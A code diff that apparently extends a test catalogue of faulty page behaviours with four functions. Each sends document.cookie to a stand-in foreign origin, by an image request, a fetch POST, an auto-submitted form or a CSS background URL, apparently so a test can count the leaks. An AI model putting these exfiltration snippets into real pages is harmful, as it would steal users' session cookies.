@@ -150,6 +150,32 @@ const showHalf = () => {
   for (const part of parts.slice(parts.length / 2)) part.style.display = 'none';
 };
 
+/** To the origin that a test counts the requests of; nobody listens at the other one. */
+const sendInPicture = () => {
+  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
+  new Image().src = `${to}/picture?${document.cookie}`;
+};
+
+const sendByCall = () => {
+  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
+  window.fetch(`${to}/call`, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => undefined);
+};
+
+const sendInForm = () => {
+  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
+  const form = document.createElement('form');
+  const field = Object.assign(document.createElement('input'), { name: 'cookie', value: document.cookie });
+  form.append(field);
+  Object.assign(form, { action: `${to}/form`, method: 'post' });
+  document.body.append(form);
+  form.submit();
+};
+
+const sendInStyle = () => {
+  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
+  document.body.style.backgroundImage = `url("${to}/style?${encodeURIComponent(document.cookie)}")`;
+};
+
 const leaveForNowhere = () => window.location.replace('/tidak-ada');
 
 /** Global styles, as of a remote with a wrong selector. */
@@ -187,6 +213,10 @@ export const PAGE_FAULTS = {
   'disables its buttons': disableButtons,
   'shows half of its page': showHalf,
   'leaves for a missing page': leaveForNowhere,
+  'sends cookies in a picture': sendInPicture,
+  'sends cookies by a call': sendByCall,
+  'sends cookies in a form': sendInForm,
+  'sends cookies in a style': sendInStyle,
 } as const;
 
 /** Likewise, with styles only. */
